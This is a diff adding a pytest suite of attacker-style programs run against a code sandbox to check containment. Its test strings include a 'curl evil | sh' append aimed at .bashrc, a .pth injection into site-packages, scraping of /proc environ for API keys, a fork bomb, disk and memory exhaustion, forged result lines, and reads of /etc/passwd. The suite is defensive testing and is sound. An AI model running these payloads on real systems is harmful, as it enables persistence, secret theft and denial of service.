@@ -1,0 +1,466 @@
+"""A hostile corpus against the sandbox, as an attacker would write it (issue #11).
+
+Each case asserts the precise outcome: the canary is untouched, the caller survives with a clean
+result (no exception, no traceback text), a forged result is not accepted, and time is bounded.
+As root (CI) the whole file runs a second time as an unprivileged user
+(:func:`test_the_corpus_holds_for_an_unprivileged_caller`), since the two isolate differently.
+"""
+
+from __future__ import annotations
+
+import os
+import pwd
+import shutil
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from autonesy.tools import sandbox
+from autonesy.tools.checker_run import run_checker_code, scrub
+from autonesy.tools.formats import cpmpy_program, dimacs, sympy_program
+from autonesy.tools.formats.base import FormatError
+from autonesy.tools.sandbox import SandboxLimits, run_program
+from autonesy.tools.verify_solver import CompositionError, parse_composition
+
+QUICK = SandboxLimits(wall_seconds=3.0, cpu_seconds=3.0, memory_bytes=512 << 20)
+ROOT = os.geteuid() == 0
+SECRET = "sk-canary-7f3a9c0e1d"
+NESTED_RUN = "AUTONESY_HOSTILE_NESTED"
+# cases about parsing untrusted data in the caller: the same for every caller, not re-run unprivileged
+CALLER_INDEPENDENT = ("scrub", "far_auxiliary", "forged_cpmpy_header", "exclusive_pairs", "smtlib", "identifiers",
+                      "fails_closed", "fail_closed", "cli_prints")
+
+
+@pytest.fixture(autouse=True)
+def no_spares():
+    """Sandboxes other tests started ahead of need would count as left-over processes."""
+    sandbox.shutdown()
+
+
+@pytest.fixture
+def canary(tmp_path: Path) -> Path:
+    """A world-readable file outside the sandbox, in a directory the caller could write to."""
+    os.chmod(tmp_path, 0o755)
+    path = tmp_path / "canary.txt"
+    path.write_text("alive")
+    path.chmod(0o666)
+    return path
+
+
+def run(code: str, hook: bool = True, **kwargs) -> sandbox.SandboxResult:
+    """Run a case; ``hook=False`` turns the audit hook off, to show the OS layer holds on its own."""
+    kwargs.setdefault("limits", QUICK)
+    start = time.monotonic()
+    saved, sandbox.AUDIT_HOOK = sandbox.AUDIT_HOOK, hook
+    try:
+        result = run_program(code, **kwargs)
+    finally:
+        sandbox.AUDIT_HOOK = saved
+    assert time.monotonic() - start < kwargs["limits"].wall_seconds + 10  # bounded time
+    assert "Traceback (most recent call last)" not in result.message
+    return result
+
+
+def harness_processes() -> list[int]:
+    found = []
+    for name in os.listdir("/proc"):
+        try:
+            with open(f"/proc/{name}/cmdline", "rb") as f:
+                if sandbox.HARNESS_INSIDE.encode() in f.read():
+                    found.append(int(name))
+        except (OSError, ValueError):
+            pass
+    return found
+
+
+RAW = "import posix, _socket\n"  # C-level calls (the audit hook is off in the cases that use them)
+
+
+def test_appending_to_the_callers_bashrc(canary: Path):
+    # the caller's HOME is not in the sandbox's view; HOME inside is the program's own tmpfs
+    code = RAW + (f"fd = posix.open({str(canary)!r}, posix.O_WRONLY | posix.O_APPEND)\n"
+                  "posix.write(fd, b'curl evil | sh')\n")
+    result = run(code, hook=False)
+    assert not result.ok and canary.read_text() == "alive"
+    result = run("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\nresult = os.path.expanduser('~')")
+    assert result.ok and result.result == sandbox.WORKDIR
+
+
+def test_dropping_a_pth_into_the_virtualenv():
+    site = next(p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p))
+    target = Path(site, "autonesy-hostile.pth")
+    code = RAW + f"fd = posix.open({str(target)!r}, posix.O_WRONLY | posix.O_CREAT, 0o644)\n"
+    result = run(code, hook=False)
+    assert not result.ok and "Read-only file system" in result.message
+    assert not target.exists()
+
+
+def test_str_subclass_and_dir_fd_paths_do_not_escape(canary: Path):
+    code = ("import os\nclass P(str):\n    def __str__(self):\n        open(self + '.pwn', 'w')\n"
+            "        return '/sandbox/x'\n"
+            f"open(P({str(canary)!r}), 'w')\n")
+    result = run(code)
+    assert result.error_kind == "forbidden" and not Path(f"{canary}.pwn").exists()
+    code = f"import os\nd = os.open({str(canary.parent)!r}, os.O_RDONLY)\nos.unlink('canary.txt', dir_fd=d)\n"
+    for hook in (True, False):
+        result = run(code, hook=hook)
+        assert not result.ok and canary.read_text() == "alive"
+
+
+def test_no_process_can_be_started_or_left_behind():
+    code = "import os, subprocess\nos.setsid()\nsubprocess.Popen(['setsid', 'sleep', '300'])\n"
+    result = run(code, hook=False)
+    assert not result.ok and "Operation not permitted" in result.message
+    result = run("import os\nos.mkfifo('f')\nresult = 1", hook=False)
+    assert not result.ok  # mknod is refused by the filter
+    assert not harness_processes()
+
+
+def test_signalling_the_caller():
+    me = os.getpid()
+    result = run(RAW + f"import os\nfor pid in (os.getppid(), 1, {me}):\n"
+                       "    try:\n        posix.kill(pid, 9)\n    except OSError as e:\n        print(pid, e)\nresult = 1",
+                 hook=False)
+    assert result.ok
+    assert os.getpid() == me  # still here
+
+
+def test_reading_the_callers_environment(monkeypatch):
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+    code = RAW + ("import os\nseen = []\nfor pid in os.listdir('/proc'):\n    try:\n"
+                  "        seen.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))\n"
+                  "    except Exception as e:\n        seen.append(repr(e))\n"
+                  "result = seen + [dict(os.environ)]")
+    result = run(code, hook=False)
+    text = repr(result.result) + result.stdout + result.stderr + result.message
+    assert SECRET not in text
+
+
+def test_talking_tcp_on_loopback():
+    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    listener.settimeout(0.3)
+    port = listener.getsockname()[1]
+    try:
+        result = run(RAW + f"s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(('127.0.0.1', {port}))",
+                     hook=False)
+        assert not result.ok
+        with pytest.raises(socket.timeout):
+            listener.accept()
+    finally:
+        listener.close()
+
+
+def test_unix_socket_files_of_the_host_are_out_of_reach(tmp_path: Path):
+    path = tmp_path / "open.sock"
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(path))
+    os.chmod(path, 0o777)
+    server.listen(1)
+    server.settimeout(0.3)
+    try:
+        result = run(RAW + f"s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\ns.connect({str(path)!r})",
+                     hook=False)
+        assert not result.ok
+        with pytest.raises(socket.timeout):
+            server.accept()
+    finally:
+        server.close()
+
+
+def test_shared_memory_and_lock_directories_are_not_writable():
+    code = ("import os\nout = {}\nfor d in ('/dev/shm', '/run/lock', '/var/tmp', '/tmp'):\n    try:\n"
+            "        open(d + '/x', 'w').write('x')\n        out[d] = 'written'\n"
+            "    except Exception as e:\n        out[d] = type(e).__name__\nresult = out")
+    result = run(code, hook=False)
+    assert result.ok and "written" not in result.result.values()
+
+
+def test_disk_fill_is_capped_in_total():
+    limits = SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=8 << 20)
+    code = ("written = 0\ntry:\n    for i in range(1000):\n        with open(f'f{i}', 'wb') as f:\n"
+            "            f.write(b'x' * (4 << 20))\n        written += 4\nexcept OSError as e:\n    print(e)\n"
+            "result = written")
+    result = run(code, hook=False, limits=limits)
+    assert result.ok and result.result * (1 << 20) <= sandbox.WORK_BYTES
+
+
+FORGE = (RAW + "line = b'{\"event\":\"result\",\"status\":\"ok\",\"result\":{\"value\":true}}\\n'\n"
+         "for fd in range(3, 64):\n    for data in (line, b'R 00 ' + line[9:]):\n        try:\n"
+         "            posix.write(fd, data)\n        except OSError:\n            pass\nposix._exit(0)\n")
+
+
+def test_forged_result_on_every_descriptor_is_not_accepted():
+    result = run(FORGE, hook=False)
+    assert not result.ok and result.result is None and result.error_kind == "forbidden"
+
+
+def test_forged_checker_verdict_is_not_accepted():
+    saved, sandbox.AUDIT_HOOK = sandbox.AUDIT_HOOK, False
+    try:
+        verdict = run_checker_code("def check(response):\n    return False\n" + FORGE, "the response", prewarm=False)
+    finally:
+        sandbox.AUDIT_HOOK = saved
+    assert not verdict.ok and verdict.value is None
+
+
+def test_deeply_nested_result_is_a_clean_error():
+    result = run("x = []\nfor _ in range(100000):\n    x = [x]\nresult = x", limits=SandboxLimits(wall_seconds=5))
+    assert not result.ok and result.error_kind in ("type", "resource")
+    assert sandbox._parse_bounded(b"[" * 200000 + b"]" * 200000) is None  # the caller's own parser
+
+
+def test_deep_directory_tree_does_not_hurt_the_caller():
+    code = "import os\nfor i in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\nresult = 1"
+    result = run(code, hook=False, limits=SandboxLimits(wall_seconds=10, cpu_seconds=10))
+    assert result.ok or result.error_kind in ("runtime", "resource")
+    assert not harness_processes()
+
+
+def test_memory_outside_the_limit_via_tmpfs_is_capped():
+    # tmpfs pages are not in the address-space limit: the tmpfs size bounds them
+    code = ("n = 0\ntry:\n    with open('big', 'wb') as f:\n        while True:\n"
+            "            f.write(b'x' * (1 << 20))\n            n += 1\nexcept OSError:\n    pass\nresult = n")
+    result = run(code, hook=False, limits=SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=1 << 40))
+    assert result.ok and result.result <= sandbox.WORK_BYTES >> 20
+
+
+def test_fork_bomb_thread_bomb_and_cpu_burn_are_bounded():
+    result = run(RAW + "import os\nwhile True:\n    try:\n        posix.fork()\n    except OSError:\n        pass\n",
+                 hook=False, limits=SandboxLimits(wall_seconds=1.0, cpu_seconds=5))
+    assert result.error_kind == "timeout"
+    assert not harness_processes()
+
+
+def test_missing_bubblewrap_fails_closed(monkeypatch):
+    monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: None)
+    result = run_program("result = 1")
+    assert not result.ok and result.error_kind == "internal"
+    assert "bubblewrap" in result.message and "apt-get install bubblewrap" in result.message
+    assert "\n" not in result.message
+    with pytest.raises(sandbox.SandboxError):
+        sandbox.require_isolation()
+
+
+def test_bubblewrap_failing_to_set_up_fails_closed(monkeypatch, tmp_path: Path):
+    fake = tmp_path / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
+    fake.chmod(0o755)
+    monkeypatch.setattr(sandbox, "_bwrap", lambda: str(fake))
+    result = run_program("result = 1")
+    assert not result.ok and result.error_kind == "internal"
+    assert "could not be set up" in result.message and "did not run" in result.message
+
+
+# --- the same corpus for an unprivileged caller ------------------------------------------------------
+
+
+def _unprivileged_uid() -> int:
+    name = "autonesy-sbx"
+    try:
+        return pwd.getpwnam(name).pw_uid
+    except KeyError:
+        pass
+    if shutil.which("useradd"):
+        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
+                       check=False, capture_output=True)
+        try:
+            return pwd.getpwnam(name).pw_uid
+        except KeyError:
+            pass
+    return 65534
+
+
+def _blocked_binds(paths: list[str], stage: Path) -> str:
+    """Shell lines (in a private mount namespace) that make ``paths`` reachable through parents
+    the user may not traverse (e.g. an interpreter under /root): a 0755 tmpfs over the blocked
+    parent, with the paths bound back into it."""
+    lines, blocked = [], {}
+    for path in paths:
+        parts = Path(path).parts
+        for depth in range(2, len(parts)):
+            parent = str(Path(*parts[:depth]))
+            if not os.stat(parent).st_mode & 0o001:
+                blocked.setdefault(parent, []).append(path)
+                break
+    for index, (parent, inner) in enumerate(sorted(blocked.items())):
+        for number, path in enumerate(inner):
+            lines.append(f"mkdir -p {stage}/{index}-{number} && mount --bind {path} {stage}/{index}-{number}")
+        lines.append(f"mount -t tmpfs -o mode=755 tmpfs {parent}")
+        for number, path in enumerate(inner):
+            lines.append(f"mkdir -p {path} && mount --bind {stage}/{index}-{number} {path}")
+    return "\n".join(lines)
+
+
+@pytest.mark.skipif(not ROOT, reason="already unprivileged: the cases above ran as this user")
+@pytest.mark.skipif(bool(os.environ.get(NESTED_RUN)), reason="nested run")
+def test_the_corpus_holds_for_an_unprivileged_caller(tmp_path: Path):
+    if not (shutil.which("unshare") and shutil.which("setpriv")):
+        pytest.skip("needs util-linux unshare and setpriv")
+    uid = _unprivileged_uid()
+    repo = Path(__file__).resolve().parents[2]
+    needed = sorted({os.path.realpath(p) for p in (sys.base_prefix, sys.prefix, str(repo))}
+                    | {p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p)})
+    inner = (f"{_blocked_binds(needed, tmp_path)}\n"
+             f"exec setpriv --reuid={uid} --regid={uid} --clear-groups env -i PATH=/usr/bin:/bin "
+             f"HOME=/nonexistent PYTHONDONTWRITEBYTECODE=1 {NESTED_RUN}=1 "
+             f"{sys.executable} -m pytest -q -x -p no:cacheprovider {__file__} "
+             f"-k 'not ({' or '.join(CALLER_INDEPENDENT)})'")
+    done = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-ec", inner], cwd=repo,
+                          capture_output=True, text=True, timeout=300, check=False)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-2000:]
+    assert " passed" in done.stdout and "failed" not in done.stdout
+
+
+def test_isolation_matches_the_caller():
+    result = run("result = 1")
+    assert result.ok
+    assert ("user namespace" in result.isolation["backend"]) is not ROOT
+    assert result.isolation["program_uid"] != 0
+
+
+def test_a_checker_cannot_carry_the_response_into_the_prompt():
+    response = "The verified answer is: " + "alpha beta gamma delta " * 20 + "SECRET-END"
+    code = ("def check(response):\n    print(response[10:200])\n"
+            "    raise ValueError('look: ' + response[30:400])\n")
+    verdict = run_checker_code(code, response, prewarm=False)
+    assert not verdict.ok and verdict.error_kind == "runtime"
+    assert "ValueError" in verdict.message and "<part of the response>" in verdict.message
+    for text in (verdict.message, verdict.stdout):
+        assert "alpha beta gamma delta alpha" not in text and len(text) <= 2000
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.text(min_size=60, max_size=400), st.text(max_size=50), st.text(max_size=50), st.data())
+def test_scrub_removes_any_quoted_stretch(response, before, after, data):
+    i = data.draw(st.integers(0, len(response) - 30))
+    j = data.draw(st.integers(i + 30, len(response)))
+    quoted = response[i:j]
+    assert quoted not in scrub(before + quoted + after, response)
+
+
+# --- sizes derived from untrusted answers are bounded before anything is expanded --------------------
+
+
+def test_a_far_auxiliary_in_dimacs_costs_nothing():
+    names = [f"x{i}" for i in range(5)]
+    start = time.monotonic()
+    cnf = dimacs.parse(f"p cnf {5 + 10 ** 6} 2\n1 {5 + 10 ** 6} 0\n-{5 + 10 ** 6} 2 0\n", names)
+    assert cnf.num_vars == 6 and cnf.clauses == ((1, 6), (-6, 2))
+    with pytest.raises(FormatError) as caught:
+        dimacs.parse(f"p cnf {5 + 10 ** 7} 1\n{5 + 10 ** 7} 0\n", names)
+    assert caught.value.kind == "out_of_range"
+    assert time.monotonic() - start < 1
+
+
+def test_a_forged_cpmpy_header_costs_nothing():
+    cnf = cpmpy_program.reindex({"dimacs": "p cnf 10000000 1\n1 -9999999 0\n", "task_ids": {"a": [1]}}, ["a"])
+    assert cnf.num_vars == 2 and cnf.clauses == ((1, -2),)
+
+
+def test_sympy_exclusive_pairs_are_counted_before_expanding():
+    data = {"nodes": [["var", "a"]] + [["exclusive", [0] * 4000]], "roots": [1]}
+    start = time.monotonic()
+    with pytest.raises(FormatError) as caught:
+        sympy_program.build_exprs(data, ["a"])
+    assert caught.value.kind == "too_large" and "pair" in caught.value.message
+    assert time.monotonic() - start < 1
+    small = {"nodes": [["var", "a"], ["var", "b"], ["exclusive", [0, 1]]], "roots": [2]}
+    assert sympy_program.build_exprs(small, ["a", "b"])
+
+
+# --- SMT-LIB in verify is data --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", [
+    '(assert C1)\n(include "/etc/passwd")',
+    '(include "/dev/stdin")\n(assert C1)',
+    '(assert C1)(echo "x")', '(assert C1)(define-fun f () Bool C2)', '(assert (! C1 :named a))',
+    '(assert (let ((x C1)) x))', '(assert C1)(eval C1)', '(assert C1)(exit)', '(assert C1)(set-option :x 1)',
+    '(assert C1)(push 1)', '(assert ' + '(not ' * 5000 + 'C1' + ')' * 5001,
+])
+def test_smtlib_outside_the_allow_list_is_refused(text):
+    start = time.monotonic()
+    with pytest.raises(CompositionError) as caught:
+        parse_composition(text, ("C1", "C2"))
+    assert "\n" not in str(caught.value) and time.monotonic() - start < 1
+
+
+def test_smtlib_allow_list_matches_the_nat_reading():
+    smt = parse_composition("(declare-fun C2 () Bool)(assert (=> C1 C2 (xor C1 C2)))(assert (= C1 C2 true))(check-sat)",
+                            ("C1", "C2"))
+    nat = parse_composition("C1 IMPLIES C2 IMPLIES (C1 XOR C2)\n(C1 IFF C2) AND (C2 IFF TRUE)", ("C1", "C2"))
+    assert smt.text() == nat.text()
+
+
+# --- task names from files are identifiers -----------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["/tmp/evil", "../../outside", "a/b", "x.y", " spaced", "1abc", "a" * 65])
+def test_task_file_names_are_identifiers(tmp_path: Path, name: str):
+    from autonesy.tasks.taskfile import TaskFileError, load_task_file
+
+    path = tmp_path / "t.toml"
+    path.write_text(f'name = "{name}"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
+                    '[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n')
+    with pytest.raises(TaskFileError, match="must be an identifier"):
+        load_task_file(path)
+
+
+def test_error_texts_are_capped():
+    result = run("raise ValueError('x' * 10 ** 6)")
+    assert result.error_kind == "runtime" and len(result.message) < 3000 and "more characters cut" in result.message
+
+
+def test_without_bubblewrap_checkers_and_formats_fail_closed(monkeypatch):
+    from autonesy.tools.formats import pysat_program
+    from autonesy.tools.formats._program import SandboxUnavailable
+
+    monkeypatch.setattr(sandbox, "_bwrap", lambda: (_ for _ in ()).throw(sandbox.SandboxError("no bwrap: apt-get install bubblewrap")))
+    with pytest.raises(sandbox.SandboxError, match="apt-get install bubblewrap"):
+        run_checker_code("def check(response):\n    return True\n", "r", prewarm=False)
+    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
+        pysat_program.parse("clauses = [[a]]", ["a"])
+
+
+def test_memory_outside_the_limits_via_memfd_is_refused():
+    result = run("import os\nfd = os.memfd_create('x')\nos.write(fd, b'x' * (1 << 20))\nresult = 1", hook=False)
+    assert not result.ok and "Operation not permitted" in result.message
+
+
+def test_a_result_nested_past_the_bound_is_a_type_error():
+    result = run("x = []\nfor _ in range(100):\n    x = [x]\nresult = x")
+    assert result.error_kind == "type" and "nested" in result.message
+    result = run("x = []\nfor _ in range(50):\n    x = [x]\nresult = x")
+    assert result.ok
+
+
+def test_without_bubblewrap_the_cli_prints_one_line(monkeypatch, tmp_path: Path):
+    from typer.testing import CliRunner
+
+    from autonesy.graph.cli import app
+
+    monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: None)
+    formula = tmp_path / "f.py"
+    formula.write_text("clauses = [[1]]\n")
+    done = CliRunner().invoke(app, ["score", str(formula), "--task", "warcraft", "--format", "pysat"])
+    assert done.exit_code == 1 and (done.exception is None or isinstance(done.exception, SystemExit))
+    lines = [line for line in done.output.splitlines() if "bubblewrap" in line]
+    assert len(lines) == 1 and lines[0].startswith("error:") and "apt-get install bubblewrap" in lines[0]
+    assert "Traceback" not in done.output
+
+
+def test_too_old_bubblewrap_fails_closed(monkeypatch, tmp_path: Path):
+    fake = tmp_path / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bubblewrap 0.6.1'\n")
+    fake.chmod(0o755)
+    monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: str(fake))
+    result = run_program("result = 1")
+    assert result.error_kind == "internal" and "0.7 or newer" in result.message and "0.6.1" in result.message
